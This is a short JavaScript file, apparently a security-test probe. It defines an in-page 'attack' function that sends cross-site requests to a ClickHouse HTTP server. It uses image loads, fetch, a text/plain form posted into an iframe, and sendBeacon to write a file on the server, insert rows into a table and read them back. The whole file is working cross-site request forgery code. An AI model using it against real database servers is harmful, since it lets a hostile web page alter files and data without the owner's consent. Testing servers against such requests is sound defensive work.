/** Runs in the page: tries each way that a page has to send a request. @returns what it could read */
globalThis.attack = async ({ clickHouse, table, dir }) => {
  const writes = [
    `INSERT INTO FUNCTION file('${dir}/written', 'CSV', 'a String') SELECT 'x'`,
    `INSERT INTO ${table} SELECT 'x'`,
  ];
  const url = (query) => `${clickHouse}/?query=${encodeURIComponent(query)}`;
  const read = [];
  for (const query of [...writes, `SELECT a FROM ${table}`]) {
    await new Promise((resolve) => {
      const image = new Image();
      image.onload = image.onerror = resolve;
      image.src = url(query);
    });
    for (const mode of ['no-cors', 'cors']) {
      for (const method of ['GET', 'POST']) {
        const init = method === 'POST' ? { mode, method, body: query } : { mode, method };
        const text = await fetch(method === 'POST' ? clickHouse : url(query), init)
          .then((answer) => answer.text())
          .catch(() => '');
        if (text !== '') read.push(text);
      }
    }
    const frame = document.createElement('iframe');
    frame.name = `frame${Math.random()}`;
    const form = document.createElement('form');
    form.action = clickHouse;
    form.method = 'POST';
    form.enctype = 'text/plain';
    form.target = frame.name;
    const field = document.createElement('input');
    field.name = `${query} -- `;
    form.append(field);
    document.body.append(frame, form);
    await new Promise((resolve) => {
      frame.onload = resolve;
      form.submit();
    });
    navigator.sendBeacon(clickHouse, query);
  }
  return read;
};
